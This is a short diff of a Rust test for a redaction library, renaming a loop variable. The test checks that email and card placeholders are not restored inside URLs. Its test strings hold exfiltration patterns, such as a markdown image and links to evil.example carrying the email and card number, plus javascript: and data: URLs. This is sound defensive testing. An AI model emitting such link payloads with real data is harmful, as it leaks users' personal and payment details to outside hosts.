@@ -486,7 +486,7 @@ fn a_long_match_is_found_behind_many_short_ones() {
 fn values_are_put_back_into_running_text_only() {
     let (_, redacted) = redact(&all(), "a@b.example 4111111111111111");
     let (mail, card) = ("[EMAIL_1]", "[CARD_1]");
-    for kept in [
+    for unchanged in [
         "![x](https://evil.example/?e={m}&c={c})",
         "http://{m} ftp://x/{m} data:text/plain,{m} mailto:{m} tel:{c} javascript:x({c}) app:{m}",
         "see //evil.example/{m} or www.evil.example/{m}, WWW.{m} and evil.example/?q={m}, evil.example#{m}",
@@ -504,7 +504,7 @@ fn values_are_put_back_into_running_text_only() {
         "[https://x](<https://evil.example {m}>)",
         "`](<` [x](/e(>){m})",
     ] {
-        let text = kept.replace("{m}", mail).replace("{c}", card);
+        let text = unchanged.replace("{m}", mail).replace("{c}", card);
         assert_eq!(redacted.restore(&text), text);
     }
     for put in [
